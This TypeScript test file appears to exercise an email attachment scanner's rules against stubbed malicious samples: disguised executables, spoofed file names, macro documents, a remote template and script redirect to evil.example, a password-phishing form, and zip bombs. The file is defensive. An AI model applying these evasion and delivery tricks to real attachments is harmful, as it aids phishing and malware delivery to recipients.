import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { listArchive, unpackBudget } from '../archive.ts'
import type { TestFile } from '../testing.ts'
import { archiveRules } from './archive.ts'
import { attachmentRules } from './attachment.ts'
import { expectRules, type Row } from './expect.ts'

const EXE = Buffer.from('4d5a90000300000004000000ffff0000b8000000', 'hex')
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex')
const wide = (text: string) => Buffer.from(text, 'utf16le')
const ole = (...pieces: (string | Buffer)[]) =>
  Buffer.concat([OLE, Buffer.alloc(600), ...pieces.map((piece) => Buffer.from(piece as Buffer))])
const zip = (files: Record<string, string | Uint8Array>) =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(files).map(([name, content]) => [
          name,
          typeof content === 'string' ? strToU8(content) : content,
        ]),
      ),
    ),
  )
/** The same archive with the mark of encryption on every entry. */
function encrypted(bytes: Buffer): Buffer {
  const marked = Buffer.from(bytes)
  for (let at = marked.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = marked.indexOf('PK\x01\x02', at + 1, 'latin1'))
    marked[at + 8]! |= 1
  return marked
}
const file = (
  name: string | undefined,
  bytes: Buffer | string,
  type?: string,
): { text: string; files: TestFile[] } => ({
  text: 'Dear Bob,\r\nsee the file.\r\n',
  files: [{ name, bytes, type }],
})
const docx = (more: Record<string, string>) =>
  zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', ...more })
const iso = Buffer.concat([Buffer.alloc(0x8001), Buffer.from('CD001'), Buffer.alloc(100)])

const FILES: Row[] = [
  ['file-program', file('setup.exe', EXE)],
  ['file-program', file(undefined, EXE)],
  ['file-program-disguised', file('invoice.pdf', EXE, 'application/pdf')],
  ['file-program-by-name', file('invoice.scr', 'not really')],
  ['file-script', file('invoice.js', 'var a = 1')],
  ['file-script', file('invoice.vbs ', 'x')],
  ['file-double-ending', file('invoice.pdf.exe', EXE)],
  ['file-double-ending', file('photo.jpg.js', 'x')],
  ['file-name-turned', file('photo\u202egpj.exe', EXE)],
  ['file-name-padded', file(`invoice.pdf${' '.repeat(40)}.exe`, EXE)],
  ['file-name-class', file('invoice.{00020C01-0000-0000-C000-000000000046}', 'x')],
  ['file-name-invisible', file('in\u200bvoice.pdf', '%PDF-1.4')],
  ['file-other-than-named', file('invoice.pdf', zip({ a: 'x' }))],
  ['file-image-named-other', file('a.png', '<html><body>x</body></html>', 'image/png')],
  ['file-macros', file('report.doc', ole(wide('_VBA_PROJECT')))],
  ['file-macros', file('report.docm', docx({ 'word/vbaProject.bin': 'x' }))],
  ['file-macros-at-once', file('report.doc', ole(wide('_VBA_PROJECT'), Buffer.from('AutoOpen')))],
  ['file-macros-in-plain-office', file('report.docx', docx({ 'word/vbaProject.bin': 'x' }))],
  ['file-document-encrypted', file('report.docx', ole(wide('EncryptedPackage')))],
  [
    'file-remote-template',
    file(
      'report.docx',
      docx({
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
    ),
  ],
  ['file-embedded-object', file('report.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }))],
  ['file-rtf-object', file('report.rtf', '{\\rtf1{\\object\\objdata 0105}}')],
  ['file-archive-program', file('invoice.zip', zip({ 'invoice.pdf.exe': EXE }))],
  ['file-archive-program', file('invoice.zip', zip({ 'inner.zip': zip({ 'run.js': 'x' }) }))],
  ['file-archive-program', file('a.gz', gzipSync(tar('a/invoice.lnk', 'x')))],
  ['file-archive-encrypted', file('invoice.zip', encrypted(zip({ 'invoice.pdf': 'x' })))],
  ['file-archive-encrypted', file('a.rar', rar4('invoice.pdf', true))],
  [
    'file-archive-password-told',
    { ...file('invoice.zip', encrypted(zip({ 'invoice.pdf': 'x' }))), text: 'The password is 1234.\r\n' },
  ],
  ['file-archive-nested', file('a.zip', zip({ 'b.zip': zip({ 'c.txt': 'x' }) }))],
  ['file-archive-bomb', file('a.gz', gzipSync(Buffer.alloc(20_000_000)))],
  // Less than what is unpacked at most, and a thousand times what came.
  ['file-archive-bomb', file('a.gz', gzipSync(Buffer.alloc(12_000_000)))],
  ['file-archive-bomb', file('a.zip', zip({ 'b.zip': zip({ 'c.zip': zip({ 'd.zip': zip({ e: 'x' }) }) }) }))],
  ['file-archive-broken', file('a.zip', zip({ 'b.txt': 'x'.repeat(100) }).subarray(0, 60))],
  ['file-archive-rare', file('invoice.ace', 'x')],
  ['file-disc-image', file('invoice.img', 'x')],
  ['file-disc-image', file('invoice.dat', iso)],
  ['file-shortcut', file('invoice.lnk', 'x')],
  ['file-web-shortcut', file('invoice.url', '[InternetShortcut]')],
  ['file-help-book', file('help.chm', 'ITSF')],
  ['file-notebook', file('note.one', Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'))],
  ['file-web-page', file('invoice.html', '<html>hello</html>', 'text/html')],
  [
    'file-web-page-form',
    file('invoice.html', '<html><form action="https://x.example/"><input type=password></form>', 'text/html'),
  ],
  ['file-web-page-script', file('invoice.htm', '<html><script>location="https://evil.example/"</script>', 'text/html')],
  [
    'file-image-script',
    file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>', 'image/svg+xml'),
  ],
  ['file-pdf-script', file('a.pdf', '%PDF-1.4 /OpenAction /JavaScript (x)')],
  ['file-pdf-late', file('a.pdf', Buffer.concat([zip({ a: 'x' }), Buffer.from('%PDF-1.4')]))],
  ['file-alone', { ...file('a.pdf', '%PDF-1.4'), text: '\r\n' }],
]

function tar(name: string, content: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name)
  header.write(content.length.toString(8).padStart(11, '0'), 124)
  header.write('ustar', 257)
  return Buffer.concat([header, Buffer.from(content), Buffer.alloc(512 - content.length), Buffer.alloc(1024)])
}

function rar4(name: string, isEncrypted: boolean): Buffer {
  const main = Buffer.from('cf907300000d00000000000000', 'hex')
  const block = Buffer.alloc(32 + name.length)
  block[2] = 0x74
  block.writeUInt16LE(0x8000 | (isEncrypted ? 4 : 0), 3)
  block.writeUInt16LE(block.length, 5)
  block.writeUInt16LE(name.length, 26)
  block.write(name, 32)
  return Buffer.concat([Buffer.from('Rar!\x1a\x07\0', 'latin1'), main, block])
}

expectRules([...attachmentRules, ...archiveRules], FILES)

test('an archive is listed as far as its limits, whatever it says of itself', () => {
  const many = listArchive(
    zip(Object.fromEntries(Array.from({ length: 1500 }, (_, i) => [`f${i}`, '']))),
    'zip',
    'a.zip',
  )!
  assert.ok(many.excessive)
  assert.equal(many.entries.length, 1000)
  const noDirectory = zip({ 'a.exe': EXE, 'b.txt': 'x' })
  noDirectory.fill(0, noDirectory.lastIndexOf('PK\x05\x06', noDirectory.length, 'latin1'))
  const found = listArchive(noDirectory, 'zip', 'a.zip')!
  assert.ok(found.broken)
  assert.deepEqual(
    found.entries.map(({ name }) => name),
    ['a.exe', 'b.txt'],
  )
  assert.equal(listArchive(Buffer.from('xyz'), 'pdf', 'a.pdf'), undefined)
  for (const kind of ['zip', 'tar', 'gzip', 'rar'] as const) {
    for (let size = 0; size < 200; size++)
      listArchive(Buffer.alloc(size, 'PK\x03\x04Rar!\x1a\x07\x01\x80', 'latin1'), kind, 'a')
  }
})

/** A zip file of one packed content and many entries that all name it. */
function manyOfOne(content: Buffer, entries: number): Buffer {
  const local = Buffer.from('504b0304000000000800000000000000000000000000000000000500000061', 'hex')
  const head = Buffer.concat([local.subarray(0, 30), Buffer.from('a.zip')])
  const entry = Buffer.alloc(46 + 5)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(8, 10)
  entry.writeUInt32LE(content.length, 20)
  entry.writeUInt32LE(100, 24)
  entry.writeUInt16LE(5, 28)
  entry.write('a.zip', 46)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt32LE(head.length + content.length, 16)
  return Buffer.concat([head, content, Buffer.alloc(entries * entry.length, entry), end])
}

test('P9: a thousand entries that name one bomb, or one damaged piece, are not unpacked a thousand times', () => {
  const bomb = deflateRawSync(Buffer.alloc(17 * 1024 * 1024))
  const damaged = Buffer.from(bomb)
  damaged[damaged.length - 30]! ^= 0xff
  const budgetAfter = (bytes: Buffer) => {
    const budget = unpackBudget()
    const before = budget.leftBytes
    const { excessive, entries } = listArchive(bytes, 'zip', 'x.zip', budget)!
    return { excessive, entries: entries.length, spent: before - budget.leftBytes }
  }
  const all = { excessive: true, entries: 1000, spent: 16 * 1024 * 1024 }
  assert.deepEqual(budgetAfter(manyOfOne(bomb, 1000)), all)
  assert.deepEqual(budgetAfter(manyOfOne(damaged, 1000)), all)
  // The archives of a message share what may be unpacked.
  const budget = unpackBudget()
  const listings = Array.from(
    { length: 5 },
    () => listArchive(gzipSync(Buffer.alloc(15 * 1024 * 1024)), 'gzip', 'a.gz', budget)!,
  )
  assert.deepEqual(
    listings.map(({ entries }) => (entries[0]?.sizeBytes ?? 0) > 0),
    [true, true, true, false, false],
  )
  assert.ok(listings.at(-1)!.excessive)
})
